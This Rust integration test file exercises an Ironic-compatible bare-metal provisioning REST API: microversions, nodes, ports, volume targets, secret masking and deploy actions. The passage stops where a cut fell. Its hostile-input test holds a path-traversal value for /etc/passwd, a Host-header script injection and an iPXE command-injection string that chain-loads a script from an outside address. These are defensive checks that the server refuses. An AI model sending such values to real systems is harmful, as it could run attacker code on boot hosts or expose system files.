//! The REST API (`[api] listen`) of `app::serve` on 127.0.0.1:0, driven by a real HTTP client:
//! version documents and microversions, nodes, ports, volume connectors and targets with
//! Ironic's rules, actions, masking, auth, hostile input; then the real `baremetal`,
//! `openstack baremetal` and openstacksdk clients from `tests/api/setup-venv.sh`'s venv.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use bootvol_core::config::Config;
use serde_json::{Value, json};

use crate::support::config_text;

#[path = "api_compat.rs"]
mod compat;
#[path = "api_groups.rs"]
mod groups;
#[path = "api_ironic.rs"]
mod ironic;
#[path = "api_pages.rs"]
mod pages;

struct Api {
    base: String,
    /// The boot HTTP listener of the same `serve`.
    boot: String,
    _serve: crate::support::ServeGuard,
    _dir: tempfile::TempDir,
}

const USER: &str = "operator";
const PASSWORD: &str = "s3cret-pass";

impl Api {
    /// Returns once the boot snapshot holds every write made before the call: the watcher
    /// takes the change log in order, so when a node made now is served by its port's MAC,
    /// every earlier write is served too. (For asserting that a write changed nothing.)
    fn settled(&self) {
        static MADE: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
        let n = MADE.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let mac = format!("52:54:00:5e:{:02x}:{:02x}", (n >> 8) & 0xff, n & 0xff);
        compat::node_with_port(self, &format!("settle-{n}"), &mac);
        let url = format!("{}/boot/{}.ipxe", self.boot, mac.replace(':', "-"));
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
        while crate::serve::get(&url).0 != 200 {
            assert!(std::time::Instant::now() < deadline, "the snapshot never took {mac}");
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
    }

    /// `serve` on an empty database; `basic`: http_basic with a bcrypt htpasswd file.
    fn start(basic: bool) -> Api {
        Api::start_with(basic, "")
    }

    /// [`Api::start`] with more `[api]` settings (`key = value` lines).
    fn start_with(basic: bool, api_settings: &str) -> Api {
        let dir = tempfile::tempdir().unwrap();
        let htpasswd = dir.path().join("htpasswd");
        let hash = bcrypt::hash(PASSWORD, 4).unwrap();
        std::fs::write(&htpasswd, format!("# users\n{USER}:{hash}\n")).unwrap();
        let auth = if basic {
            format!(
                "[api]\nauth_strategy = \"http_basic\"\nhttp_basic_auth_user_file = \"{}\"\n",
                htpasswd.display()
            )
        } else {
            "[api]\nauth_strategy = \"noauth\"\n".to_owned()
        };
        let text = format!("{}{auth}{api_settings}", config_text(dir.path()));
        let config = Config::from_toml(&text, "test").unwrap();
        let (addr, boot, shutdown) = crate::support::start_serve(config);
        Api {
            base: format!("http://{addr}"),
            boot: format!("http://{boot}"),
            _serve: shutdown,
            _dir: dir,
        }
    }

    /// Status, headers (lowercase names) and body (JSON, or Null when empty).
    fn call(
        &self,
        method: &str,
        path: &str,
        body: Option<&str>,
        headers: &[(&str, &str)],
    ) -> (u16, Vec<(String, String)>, Value) {
        let agent: ureq::Agent =
            ureq::Agent::config_builder().http_status_as_error(false).build().into();
        let url = format!("{}{path}", self.base);
        let mut request = ureq::http::Request::builder().method(method).uri(&url);
        for (k, v) in headers {
            request = request.header(*k, *v);
        }
        let body = body.unwrap_or("").to_owned();
        let request = request.body(body).unwrap();
        let mut response = agent.run(request).expect("HTTP exchange");
        let status = response.status().as_u16();
        let headers: Vec<(String, String)> = response
            .headers()
            .iter()
            .map(|(k, v)| (k.as_str().to_owned(), v.to_str().unwrap_or("").to_owned()))
            .collect();
        let text = response.body_mut().read_to_string().unwrap_or_default();
        let json = if text.is_empty() {
            Value::Null
        } else {
            serde_json::from_str(&text).unwrap_or_else(|e| panic!("not JSON ({e}): {text}"))
        };
        assert!(status < 500, "{method} {path} answered {status}: {text}");
        (status, headers, json)
    }

    /// A call at microversion 1.38 (the API's maximum).
    fn v(&self, method: &str, path: &str, body: Option<Value>) -> (u16, Value) {
        self.at("1.38", method, path, body)
    }

    fn at(&self, version: &str, method: &str, path: &str, body: Option<Value>) -> (u16, Value) {
        let text = body.map(|b| b.to_string());
        let (status, _, json) = self.call(
            method,
            path,
            text.as_deref(),
            &[("X-OpenStack-Ironic-API-Version", version), ("Content-Type", "application/json")],
        );
        (status, json)
    }
}

fn header<'a>(headers: &'a [(String, String)], name: &str) -> Option<&'a str> {
    headers.iter().find(|(k, _)| k.eq_ignore_ascii_case(name)).map(|(_, v)| v.as_str())
}

/// The faultstring of an Ironic error body.
fn fault(body: &Value) -> String {
    let inner: Value = serde_json::from_str(body["error_message"].as_str().expect("error_message"))
        .expect("error_message is a JSON string");
    inner["faultstring"].as_str().unwrap().to_owned()
}

fn iscsi_node_body(name: &str) -> Value {
    json!({"name": name, "driver": "fake", "storage_interface": "external",
        "driver_info": {"fake_password": "bmc-secret"},
        "properties": {"capabilities": "iscsi_boot:true"}})
}

#[test]
fn version_documents_and_microversions() {
    let api = Api::start(false);
    let (status, headers, root) = api.call("GET", "/", None, &[]);
    assert_eq!(status, 200);
    assert!(header(&headers, "content-type").unwrap().starts_with("application/json"));
    let v1 = &root["versions"][0];
    assert_eq!(v1["id"], "v1");
    assert_eq!(v1["status"], "CURRENT");
    assert_eq!(v1["min_version"], "1.1");
    assert_eq!(v1["version"], "1.38");
    assert!(v1["links"][0]["href"].as_str().unwrap().ends_with("/v1/"));
    for path in ["/v1", "/v1/"] {
        let (status, headers, doc) = api.call("GET", path, None, &[]);
        assert_eq!(status, 200, "{path}");
        assert_eq!(header(&headers, "X-OpenStack-Ironic-API-Minimum-Version"), Some("1.1"));
        assert_eq!(header(&headers, "X-OpenStack-Ironic-API-Maximum-Version"), Some("1.38"));
        assert_eq!(doc["version"]["version"], "1.38");
        assert!(header(&headers, "X-OpenStack-Request-Id").unwrap().starts_with("req-"));
    }
    // What the CLI sends first: above the maximum, 406, with the headers.
    let (status, headers, body) =
        api.call("GET", "/v1/nodes", None, &[("X-OpenStack-Ironic-API-Version", "1.115")]);
    assert_eq!(status, 406);
    assert!(fault(&body).contains("1.115"));
    assert_eq!(header(&headers, "X-OpenStack-Ironic-API-Maximum-Version"), Some("1.38"));
    for bad in ["2.1", "1.x", "banana"] {
        let (status, _, _) =
            api.call("GET", "/v1/nodes", None, &[("X-OpenStack-Ironic-API-Version", bad)]);
        assert_eq!(status, 406, "{bad}");
    }
    // The other header form, `latest`, and no header (the minimum).
    let (_, headers, _) =
        api.call("GET", "/v1/nodes", None, &[("OpenStack-API-Version", "baremetal 1.32")]);
    assert_eq!(header(&headers, "X-OpenStack-Ironic-API-Version"), Some("1.32"));
    let (_, headers, _) =
        api.call("GET", "/v1/nodes", None, &[("X-OpenStack-Ironic-API-Version", "latest")]);
    assert_eq!(header(&headers, "X-OpenStack-Ironic-API-Version"), Some("1.38"));
    let (_, headers, _) = api.call("GET", "/v1/nodes/", None, &[]);
    assert_eq!(header(&headers, "X-OpenStack-Ironic-API-Version"), Some("1.1"));
    // Volume endpoints from 1.32 only.
    assert_eq!(api.at("1.31", "GET", "/v1/volume/connectors", None).0, 404);
    assert_eq!(api.at("1.32", "GET", "/v1/volume/connectors", None).0, 200);
    assert_eq!(api.at("1.32", "GET", "/v1/volume/", None).0, 200);
    let (status, _, body) = api.call("GET", "/v1/nowhere", None, &[]);
    assert_eq!(status, 404);
    assert!(fault(&body).contains("could not be found"));
}

#[test]
fn nodes_create_list_show_patch_delete() {
    let api = Api::start(false);
    let (status, node) = api.v("POST", "/v1/nodes", Some(iscsi_node_body("n1")));
    assert_eq!(status, 201, "{node}");
    let uuid = node["uuid"].as_str().unwrap().to_owned();
    assert_eq!(node["provision_state"], "enroll");
    assert_eq!(node["driver_info"]["fake_password"], "******");
    assert_eq!(node["storage_interface"], "external");
    assert!(node["links"][0]["href"].as_str().unwrap().ends_with(&format!("/v1/nodes/{uuid}")));
    // Below 1.11 a new node is available; below 1.33 storage_interface is refused on write.
    let (status, old) =
        api.at("1.10", "POST", "/v1/nodes", Some(json!({"name": "n0", "driver": "fake"})));
    assert_eq!((status, old["provision_state"].as_str()), (201, Some("available")));
    assert!(old.get("storage_interface").is_none(), "hidden below 1.33");
    assert_eq!(api.at("1.31", "POST", "/v1/nodes", Some(iscsi_node_body("n9"))).0, 406);
    for i in 2..=4 {
        assert_eq!(
            api.v("POST", "/v1/nodes", Some(json!({"name": format!("n{i}"), "driver": "fake"}))).0,
            201
        );
    }
    let (status, dup) = api.v("POST", "/v1/nodes", Some(json!({"name": "n1", "driver": "fake"})));
    assert_eq!(status, 409, "{dup}");
    // Lists: the list columns only, /detail, fields, paging with next, sorting.
    let (_, list) = api.v("GET", "/v1/nodes", None);
    let first = list["nodes"][0].as_object().unwrap();
    let mut keys: Vec<&str> = first.keys().map(String::as_str).collect();
    keys.sort_unstable();
    assert_eq!(
        keys,
        ["instance_uuid", "links", "maintenance", "name", "power_state", "provision_state", "uuid"]
    );
    assert_eq!(list["nodes"].as_array().unwrap().len(), 5);
    let (_, detail) = api.v("GET", "/v1/nodes/detail", None);
    assert_eq!(detail["nodes"][0]["driver"], "fake");
    let (_, fields) = api.v("GET", "/v1/nodes/?fields=uuid,name,power_state", None);
    assert_eq!(fields["nodes"][0].as_object().unwrap().len(), 4, "{fields}");
    assert_eq!(api.v("GET", "/v1/nodes?fields=nope", None).0, 400);
    assert_eq!(api.v("GET", "/v1/nodes?fields=name&detail=True", None).0, 400);
    let (_, page) = api.v("GET", "/v1/nodes/?limit=2&sort_key=name", None);
    assert_eq!(page["nodes"].as_array().unwrap().len(), 2);
    let next = page["next"].as_str().unwrap().to_owned();
    let path = &next[api.base.len()..];
    let (_, page2) = api.v("GET", path, None);
    assert_eq!(page2["nodes"][0]["name"], "n2", "{next}");
    let (_, desc) = api.v("GET", "/v1/nodes?sort_key=name&sort_dir=desc", None);
    assert_eq!(desc["nodes"][0]["name"], "n4");
    assert_eq!(api.v("GET", "/v1/nodes?sort_dir=sideways", None).0, 400);
    assert_eq!(api.v("GET", "/v1/nodes?sort_key=driver_info", None).0, 400);
    assert_eq!(api.v("GET", "/v1/nodes?limit=-1", None).0, 400);
    assert_eq!(api.v("GET", "/v1/nodes?marker=nope", None).0, 400);
    // Show by name or UUID.
    assert_eq!(api.v("GET", "/v1/nodes/n1", None).1["uuid"], uuid.as_str());
    assert_eq!(api.v("GET", &format!("/v1/nodes/{uuid}/"), None).1["name"], "n1");
    assert_eq!(api.at("1.32", "GET", "/v1/nodes/n1", None).1.get("storage_interface"), None);
    assert_eq!(api.v("GET", "/v1/nodes/nope", None).0, 404);
    // JSON patch: add (the CLI), replace (the SDK), remove; nested paths; secrets kept.
    let patch = json!([{"op": "add", "path": "/storage_interface", "value": "noop"},
        {"op": "add", "path": "/extra/rack", "value": "r1"},
        {"op": "add", "path": "/driver_info/fake_address", "value": "10.0.0.1"}]);
    let (status, patched) = api.v("PATCH", "/v1/nodes/n1", Some(patch));
    assert_eq!(status, 200, "{patched}");
    assert_eq!(patched["storage_interface"], "noop");
    assert_eq!(patched["extra"]["rack"], "r1");
    assert_eq!(patched["driver_info"]["fake_password"], "******");
    let (_, patched) = api.v(
        "PATCH",
        "/v1/nodes/n1",
        Some(json!([
        {"op": "replace", "path": "/storage_interface", "value": "external"},
        {"op": "remove", "path": "/extra/rack"}])),
    );
    assert_eq!(patched["storage_interface"], "external");
    assert_eq!(patched["extra"], json!({}));
    assert_eq!(
        api.at(
            "1.32",
            "PATCH",
            "/v1/nodes/n1",
            Some(json!([{"op": "replace", "path": "/storage_interface", "value": "noop"}]))
        )
        .0,
        406
    );
    for (patch, words) in [
        (
            json!([{"op": "replace", "path": "/provision_state", "value": "active"}]),
            "internal attribute",
        ),
        (json!([{"op": "replace", "path": "/uuid", "value": "x"}]), "internal attribute"),
        (json!([{"op": "add", "path": "/nonsense", "value": 1}]), "not a field"),
        (json!([{"op": "remove", "path": "/extra/absent"}]), "does not exist"),
        (json!([{"op": "move", "path": "/name", "value": "x"}]), "add, replace or remove"),
        (json!([{"op": "replace", "path": "/name", "value": "bad name!"}]), "name"),
        (json!([{"op": "replace", "path": "/driver", "value": "magic"}]), "driver"),
        (json!([{"op": "replace", "path": "/storage_interface", "value": 7}]), "storage_interface"),
        (
            json!([{"op": "replace", "path": "/properties/capabilities", "value": "iscsi_boot"}]),
            "capabilities",
        ),
        (json!([{"op": "replace", "path": "/name", "value": "n2"}]), "already exists"),
        (json!({"op": "replace"}), "list"),
    ] {
        let (status, body) = api.v("PATCH", "/v1/nodes/n1", Some(patch.clone()));
        assert!(status == 400 || status == 409, "{patch}: {status} {body}");
        assert!(fault(&body).contains(words), "{patch}: {}", fault(&body));
    }
    let (_, after) = api.v("GET", "/v1/nodes/n1", None);
    assert_eq!(after["name"], "n1", "nothing half-written");
    assert_eq!(after["storage_interface"], "external");
    // A node another action holds (a live process's lock): 409, and nothing changes.
    let db = crate::support::open_db_ok(api._dir.path()).unwrap();
    // An action of this very process: actions exclude each other, not processes.
    let me = bootvol_db::ActionToken::new("deploy");
    let now = bootvol_core::timefmt::now_unix() as i64;
    db.try_lock_node(&uuid, &me, now, bootvol_db::LEASE_SECS).unwrap().unwrap();
    for (method, path, body) in [
        ("PATCH", "/v1/nodes/n1", json!([{"op": "add", "path": "/extra/x", "value": 1}])),
        ("PUT", "/v1/nodes/n1/states/power", json!({"target": "power on"})),
        ("PUT", "/v1/nodes/n1/states/provision", json!({"target": "manage"})),
        ("DELETE", "/v1/nodes/n1", Value::Null),
    ] {
        let (status, reply) = api.v(method, path, Some(body).filter(|b| !b.is_null()));
        assert_eq!(status, 409, "{method} {path}: {reply}");
        assert!(fault(&reply).contains("locked"), "{}", fault(&reply));
    }
    // Ironic's `reservation`: who holds the node while an action runs, null otherwise.
    let (_, held) = api.v("GET", "/v1/nodes/n1", None);
    assert_eq!(held["reservation"], json!(bootvol_db::instance_id()), "{held}");
    db.unlock_node(&uuid, &me).unwrap();
    let (_, free) = api.v("GET", "/v1/nodes/n1", None);
    assert_eq!(free["extra"], json!({}));
    assert_eq!(free["reservation"], Value::Null, "{free}");
    // Delete.
    assert_eq!(api.v("DELETE", "/v1/nodes/n4", None).0, 204);
    assert_eq!(api.v("GET", "/v1/nodes/n4", None).0, 404);
}

#[test]
fn ports_connectors_targets_and_their_rules() {
    let api = Api::start(false);
    let (_, node) = api.v("POST", "/v1/nodes", Some(iscsi_node_body("n1")));
    let uuid = node["uuid"].as_str().unwrap().to_owned();
    api.v("POST", "/v1/nodes", Some(json!({"name": "other", "driver": "fake"})));
    // Ports.
    let (status, port) = api.v(
        "POST",
        "/v1/ports",
        Some(json!({"address": "52:54:00:AA:00:01", "node_uuid": uuid})),
    );
    assert_eq!(status, 201, "{port}");
    assert_eq!(port["address"], "52:54:00:aa:00:01");
    assert_eq!(
        api.v(
            "POST",
            "/v1/ports",
            Some(json!({"address": "52:54:00:aa:00:01", "node_uuid": "other"}))
        )
        .0,
        409
    );
    let (status, bad) =
        api.v("POST", "/v1/ports", Some(json!({"address": "not-a-mac", "node_uuid": uuid})));
    assert_eq!(status, 400);
    assert!(fault(&bad).contains("address"), "{}", fault(&bad));
    assert_eq!(
        api.v(
            "POST",
            "/v1/ports",
            Some(json!({"address": "52:54:00:aa:00:02", "node_uuid": "ghost"}))
        )
        .0,
        400
    );
    for query in ["node", "node_uuid"] {
        let (_, ports) = api.v("GET", &format!("/v1/ports/?{query}={uuid}"), None);
        assert_eq!(ports["ports"].as_array().unwrap().len(), 1, "{query}");
        assert_eq!(ports["ports"][0].as_object().unwrap().len(), 3, "uuid, address, links");
    }
    let (_, ports) = api.v("GET", "/v1/ports?node=other", None);
    assert!(ports["ports"].as_array().unwrap().is_empty());
    let port_uuid = port["uuid"].as_str().unwrap();
    let (status, moved) = api.v(
        "PATCH",
        &format!("/v1/ports/{port_uuid}"),
        Some(json!([{"op": "replace", "path": "/address", "value": "52:54:00:aa:00:03"}])),
    );
    assert_eq!((status, moved["address"].as_str()), (200, Some("52:54:00:aa:00:03")));
    assert_eq!(
        api.v(
            "PATCH",
            &format!("/v1/ports/{port_uuid}"),
            Some(json!([{"op": "replace", "path": "/internal_info", "value": {}}]))
        )
        .0,
        400
    );
    // Connectors: (type, connector_id) unique; IQNs checked.
    let iqn = "iqn.2024-01.org.example.node:n1";
    let (status, connector) = api.v(
        "POST",
        "/v1/volume/connectors",
        Some(json!({"node_uuid": uuid, "type": "iqn", "connector_id": iqn})),
    );
    assert_eq!(status, 201, "{connector}");
    assert_eq!(
        api.v(
            "POST",
            "/v1/volume/connectors",
            Some(json!({"node_uuid": "other", "type": "iqn", "connector_id": iqn}))
        )
        .0,
        409
    );
    let (status, bad) = api.v(
        "POST",
        "/v1/volume/connectors",
        Some(json!({"node_uuid": uuid, "type": "iqn", "connector_id": "not an iqn"})),
    );
    assert_eq!(status, 400);
    assert!(fault(&bad).contains("connector_id"));
    assert_eq!(
        api.v(
            "POST",
            "/v1/volume/connectors",
            Some(json!({"node_uuid": uuid, "type": "smoke", "connector_id": "x"}))
        )
        .0,
        400
    );
    // Targets: boot_index unique per node; properties checked; CHAP masked everywhere.
    let target_body = json!({"node_uuid": uuid, "volume_type": "iscsi", "boot_index": 0, "volume_id": "vol-1",
        "properties": {"target_iqn": "iqn.2024-01.org.example.san:v1", "target_portal": "192.0.2.5:3260",
                       "target_lun": 1, "auth_method": "CHAP", "auth_username": "u", "auth_password": "chap-secret"}});
    let (status, target) = api.v("POST", "/v1/volume/targets", Some(target_body.clone()));
    assert_eq!(status, 201, "{target}");
    assert_eq!(target["properties"]["auth_password"], "******");
    let target_uuid = target["uuid"].as_str().unwrap().to_owned();
    assert_eq!(api.v("POST", "/v1/volume/targets", Some(target_body)).0, 409);
    let (status, bad) = api.v("POST", "/v1/volume/targets", Some(json!({"node_uuid": uuid, "volume_type": "iscsi", "boot_index": 1,
        "volume_id": "vol-2", "properties": {"target_iqn": "bogus iqn", "target_portal": "192.0.2.5:3260", "target_lun": 0}})));
    assert_eq!(status, 400);
    assert!(fault(&bad).contains("target_iqn"), "{}", fault(&bad));
    assert_eq!(api.v("POST", "/v1/volume/targets", Some(json!({"node_uuid": uuid, "volume_type": "iscsi", "boot_index": "zero", "volume_id": "v"}))).0, 400);
    for path in [
        format!("/v1/volume/targets/{target_uuid}"),
        format!("/v1/volume/targets?node={uuid}&detail=True"),
        format!("/v1/nodes/{uuid}/volume/targets?detail=True"),
    ] {
        let (status, body) = api.v("GET", &path, None);
        assert_eq!(status, 200, "{path}");
        let text = body.to_string();
        assert!(!text.contains("chap-secret") && text.contains("******"), "{path}: {text}");
    }
    let (_, list) = api.v("GET", &format!("/v1/volume/targets/?node={uuid}"), None);
    let mut keys: Vec<&str> =
        list["targets"][0].as_object().unwrap().keys().map(String::as_str).collect();
    keys.sort_unstable();
    assert_eq!(keys, ["boot_index", "links", "node_uuid", "uuid", "volume_id", "volume_type"]);
    // A patch keeps the masked secret; a masked secret with nothing stored is refused.
    let (status, patched) = api.v(
        "PATCH",
        &format!("/v1/volume/targets/{target_uuid}"),
        Some(json!([{"op": "replace", "path": "/volume_id", "value": "vol-9"}])),
    );
    assert_eq!((status, patched["volume_id"].as_str()), (200, Some("vol-9")));
    assert_eq!(api.v("PATCH", &format!("/v1/volume/targets/{target_uuid}"), Some(json!([{"op": "add", "path": "/properties/auth_reverse_password", "value": "******"}]))).0, 400);
    assert_eq!(
        api.v(
            "PATCH",
            &format!("/v1/volume/targets/{target_uuid}"),
            Some(json!([{"op": "replace", "path": "/uuid", "value": "x"}]))
        )
        .0,
        400
    );
    assert_eq!(api.v("POST", &format!("/v1/nodes/{uuid}/volume/targets"), Some(json!({}))).0, 400);
    // The whole deploy: manage, provide, validate, deploy (fake driver, external storage).
    for target in ["manage", "provide"] {
        assert_eq!(
            api.v("PUT", "/v1/nodes/n1/states/provision", Some(json!({"target": target}))).0,
            202
        );
        wait_for(
            &api,
            "n1",
            "provision_state",
            if target == "manage" { "manageable" } else { "available" },
        );
    }
    let (status, validation) = api.v("GET", "/v1/nodes/n1/validate", None);
    assert_eq!(status, 200);
    for interface in ["boot", "deploy", "power", "storage"] {
        assert_eq!(validation[interface]["result"], true, "{validation}");
    }
    let (status, body) =
        api.v("PUT", "/v1/nodes/n1/states/provision", Some(json!({"target": "adopt"})));
    assert_eq!(status, 400, "{body}");
    assert_eq!(
        api.v("PUT", "/v1/nodes/n1/states/provision", Some(json!({"target": "active"}))).0,
        202
    );
    wait_for(&api, "n1", "provision_state", "active");
    wait_for(&api, "n1", "power_state", "power on");
    assert_eq!(api.v("GET", "/v1/nodes/n1/management/boot_device", None).1["boot_device"], "pxe");
    // What the API wrote reaches the boot path (the snapshot follows the database).
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let script = crate::serve::get(&format!("{}/boot/52-54-00-aa-00-03.ipxe", api.boot));
        if script.0 == 200 && String::from_utf8_lossy(&script.2).contains("sanboot") {
            break;
        }
        assert!(Instant::now() < deadline, "the deployed node's script never arrived");
        std::thread::sleep(Duration::from_millis(100));
    }
    // Deployed and powered on: volume information is frozen, creation included.
    let (status, body) = api.v(
        "POST",
        "/v1/volume/connectors",
        Some(json!({"node_uuid": uuid, "type": "ip", "connector_id": "192.0.2.9"})),
    );
    assert_eq!(status, 400, "{body}");
    assert!(fault(&body).contains("powered off"));
    assert_eq!(api.v("DELETE", &format!("/v1/volume/targets/{target_uuid}"), None).0, 400);
    assert_eq!(api.v("DELETE", "/v1/nodes/n1", None).0, 409);
    // Deployed: a port's address changes, or the port goes, only in maintenance.
    let port_path = format!("/v1/ports/{port_uuid}");
    let readdress = |mac: &str| json!([{"op": "replace", "path": "/address", "value": mac}]);
    let (status, body) = api.v("PATCH", &port_path, Some(readdress("52:54:00:aa:00:09")));
    assert_eq!(status, 400, "{body}");
    assert!(fault(&body).contains("maintenance"), "{body}");
    assert_eq!(api.v("DELETE", &port_path, None).0, 400);
    // A new port too: its MAC would get the node's script (CHAP secrets included).
    let new_port = json!({"node_uuid": uuid, "address": "52:54:00:aa:00:0a"});
    let (status, body) = api.v("POST", "/v1/ports", Some(new_port.clone()));
    assert_eq!(status, 400, "{body}");
    assert!(fault(&body).contains("maintenance"), "{body}");
    // Maintenance: bad bodies refused with a message; set with a reason; cleared.
    for bad in
        [json!({"reason": 5}), json!({"why": "x"}), json!({"reason": "two\nlines"}), json!([])]
    {
        let (status, body) = api.v("PUT", "/v1/nodes/n1/maintenance", Some(bad.clone()));
        assert_eq!(status, 400, "{bad}: {body}");
        assert!(!fault(&body).is_empty());
    }
    assert_eq!(api.v("PUT", "/v1/nodes/ghost/maintenance", None).0, 404);
    assert_eq!(
        api.v("PUT", "/v1/nodes/n1/maintenance", Some(json!({"reason": "swap NIC"}))).0,
        202
    );
    let (_, doc) = api.v("GET", "/v1/nodes/n1", None);
    assert_eq!(
        (&doc["maintenance"], &doc["maintenance_reason"]),
        (&json!(true), &json!("swap NIC"))
    );
    let (status, body) = api.v("PATCH", &port_path, Some(readdress("52:54:00:aa:00:09")));
    assert_eq!((status, body["address"].as_str()), (200, Some("52:54:00:aa:00:09")), "{body}");
    assert_eq!(api.v("PATCH", &port_path, Some(readdress("52:54:00:aa:00:03"))).0, 200);
    let (status, body) = api.v("POST", "/v1/ports", Some(new_port));
    assert_eq!(status, 201, "in maintenance a port may be added: {body}");
    let added = format!("/v1/ports/{}", body["uuid"].as_str().unwrap());
    assert_eq!(api.v("DELETE", &added, None).0, 204);
    assert_eq!(api.v("DELETE", "/v1/nodes/n1/maintenance", None).0, 202);
    let (_, doc) = api.v("GET", "/v1/nodes/n1", None);
    assert_eq!((&doc["maintenance"], &doc["maintenance_reason"]), (&json!(false), &Value::Null));
    assert_eq!(api.v("PATCH", &port_path, Some(readdress("52:54:00:aa:00:09"))).0, 400);
    // Every change made through the API is in the node's events, with Ironic's names.
    let db = crate::support::open_db_ok(api._dir.path()).unwrap();
    let events: Vec<String> =
        db.events(Some(&uuid), 500).unwrap().into_iter().map(|e| e.event_type).collect();
    for expected in [
        "baremetal.node.create.end",
        "baremetal.port.create.end",
        "baremetal.port.update.end",
        "baremetal.volumeconnector.create.end",
        "baremetal.volumetarget.create.end",
        "baremetal.node.maintenance_set.end",
    ] {
        assert!(events.iter().any(|e| e == expected), "{expected} missing: {events:?}");
    }
    assert_eq!(
        api.v("PUT", "/v1/nodes/n1/states/power", Some(json!({"target": "power off"}))).0,
        202
    );
    wait_for(&api, "n1", "power_state", "power off");
    assert_eq!(
        api.v(
            "POST",
            "/v1/volume/connectors",
            Some(json!({"node_uuid": uuid, "type": "ip", "connector_id": "192.0.2.9"}))
        )
        .0,
        201
    );
    assert_eq!(
        api.v("PUT", "/v1/nodes/n1/states/power", Some(json!({"target": "explode"}))).0,
        400
    );
    assert_eq!(
        api.v(
            "PUT",
            "/v1/nodes/n1/management/boot_device",
            Some(json!({"boot_device": "disk", "persistent": true}))
        )
        .0,
        204
    );
    let (_, device) = api.v("GET", "/v1/nodes/n1/management/boot_device", None);
    assert_eq!(device, json!({"boot_device": "disk", "persistent": true}));
    // A fake node never set boots from the network for one boot, as Ironic's fake management.
    let (status, made) =
        api.v("POST", "/v1/nodes", Some(json!({"name": "n-boot", "driver": "fake"})));
    assert_eq!(status, 201, "{made}");
    let (_, device) = api.v("GET", "/v1/nodes/n-boot/management/boot_device", None);
    assert_eq!(device, json!({"boot_device": "pxe", "persistent": false}));
    assert_eq!(api.v("DELETE", "/v1/nodes/n-boot", None).0, 204);
    assert_eq!(
        api.v("PUT", "/v1/nodes/n1/states/provision", Some(json!({"target": "deleted"}))).0,
        202
    );
    wait_for(&api, "n1", "provision_state", "available");
    // Deletes. The action writes the new state a moment before it lets go of the node's lock:
    // until then a change answers 409 (NodeLocked), as Ironic's does, and clients retry.
    let connector_uuid = connector["uuid"].as_str().unwrap();
    let path = format!("/v1/volume/connectors/{connector_uuid}");
    let deadline = Instant::now() + Duration::from_secs(10);
    let deleted = loop {
        match api.v("DELETE", &path, None) {
            (409, _) if Instant::now() < deadline => std::thread::sleep(Duration::from_millis(50)),
            (status, doc) => break (status, doc),
        }
    };
    assert_eq!(deleted.0, 204, "{}", deleted.1);
    assert_eq!(api.v("DELETE", &format!("/v1/volume/targets/{target_uuid}"), None).0, 204);
    assert_eq!(api.v("DELETE", &format!("/v1/ports/{port_uuid}"), None).0, 204);
    assert_eq!(api.v("GET", &format!("/v1/ports/{port_uuid}"), None).0, 404);
}

fn wait_for(api: &Api, node: &str, field: &str, value: &str) {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let (_, doc) = api.v("GET", &format!("/v1/nodes/{node}"), None);
        // As Ironic's clients wait: the state reached and the node's lock released (an action
        // saves its end state just before it lets go of the node; a request in between is
        // NodeLocked, 409).
        if doc[field] == value && doc["reservation"].is_null() {
            return;
        }
        assert!(Instant::now() < deadline, "{node}: {field} never became {value}: {doc}");
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn hostile_input_gets_4xx_with_a_message_and_writes_nothing() {
    let api = Api::start(false);
    let json_header =
        [("X-OpenStack-Ironic-API-Version", "1.38"), ("Content-Type", "application/json")];
    let cases: Vec<(&str, &str, String)> = vec![
        ("POST", "/v1/nodes", "{not json".into()),
        ("POST", "/v1/nodes", "".into()),
        ("POST", "/v1/nodes", "[]".into()),
        ("POST", "/v1/nodes", json!({"name": 5, "driver": "fake"}).to_string()),
        (
            "POST",
            "/v1/nodes",
            json!({"name": "x", "driver": "fake", "driver_info": "text"}).to_string(),
        ),
        (
            "POST",
            "/v1/nodes",
            json!({"name": "x", "driver": "fake", "power_state": "power on"}).to_string(),
        ),
        (
            "POST",
            "/v1/nodes",
            json!({"name": "x", "driver": "fake", "uuid": "not-a-uuid"}).to_string(),
        ),
        ("POST", "/v1/nodes", json!({"name": "x"}).to_string()),
        (
            "POST",
            "/v1/nodes",
            json!({"name": "x", "driver": "fake", "driver_info": {"ipmi_password": "******"}})
                .to_string(),
        ),
        (
            "POST",
            "/v1/nodes",
            json!({"name": "x", "driver": "fake", "instance_info": {"kernel": "../../etc/passwd"}})
                .to_string(),
        ),
        (
            "POST",
            "/v1/nodes",
            json!({"name": "x", "driver": "fake", "storage_interface": "cinderella"}).to_string(),
        ),
        (
            "POST",
            "/v1/ports",
            json!({"address": ["52:54:00:00:00:01"], "node_uuid": "x"}).to_string(),
        ),
        ("POST", "/v1/volume/connectors", json!({"type": "iqn"}).to_string()),
        ("POST", "/v1/volume/targets", json!({"node_uuid": 1}).to_string()),
        ("PUT", "/v1/nodes/x/states/power", "{".into()),
        ("PATCH", "/v1/nodes/x", "[{]".into()),
    ];
    for (method, path, body) in &cases {
        let (status, headers, reply) = api.call(method, path, Some(body), &json_header);
        assert!(
            (400..500).contains(&status),
            "{method} {path} {}: {status}",
            &body[..body.len().min(80)]
        );
        assert!(!fault(&reply).is_empty());
        assert!(header(&headers, "content-type").unwrap().starts_with("application/json"));
    }
    // Links never reflect the request's Host header: they name the listener (or public_endpoint).
    let evil = [
        ("Host", "evil.example\"><script>"),
        ("X-OpenStack-Ironic-API-Version", "1.38"),
        ("Content-Type", "application/json"),
    ];
    let node = json!({"name": "linked", "driver": "fake"}).to_string();
    for (method, path, body) in
        [("GET", "/", None), ("GET", "/v1/", None), ("POST", "/v1/nodes", Some(node.as_str()))]
    {
        let (status, _, reply) = api.call(method, path, body, &evil);
        assert!(status == 200 || status == 201, "{path}: {status} {reply}");
        assert!(!reply.to_string().contains("evil.example"), "{path}: {reply}");
        assert!(reply.to_string().contains(&api.base), "{path}: {reply}");
    }
    assert_eq!(api.call("DELETE", "/v1/nodes/linked", None, &evil).0, 204);
    // iPXE's command separators, as a word of kernel_append_params or a whole value: 400 naming
    // the field.
    for (field, value) in [
        ("kernel_append_params", "console=ttyS0 && chain http://192.0.2.66/x.ipxe"),
